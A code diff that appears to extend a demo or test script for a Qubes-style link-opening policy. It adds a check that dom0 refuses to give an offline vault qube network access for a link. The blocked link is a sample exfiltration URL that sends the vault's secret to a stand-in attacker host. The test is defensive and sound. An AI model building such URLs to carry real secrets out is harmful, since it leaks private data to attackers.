@@ -147,6 +147,14 @@ def main() -> int:
         print(f"  Admin API calls caused: {len(d.sim.calls()) - calls}")
         failures += code != 2 or len(d.sim.calls()) != calls
 
+        secret = d.file("secret.txt", "the vault's secret\n")
+        code = d.step("4d. From vault (no netvm): a link would give it a network, so dom0 "
+                      "refuses (79); its files still open offline", "vault",
+                      "https://attacker.example/?secret=the-vault-s-secret")
+        failures += code != 79
+        failures += d.step("4e. The vault's file, offline", "vault", "--offline",
+                           "--view-only", str(secret)) != 0
+
         d.sim.set_property("whonix-workstation-18-dvm", "netvm", "sys-firewall")
         print(f"\n{DIM}(admin mistake: the DVM template's netvm is now sys-firewall, "
               f"i.e. clearnet){RESET}")
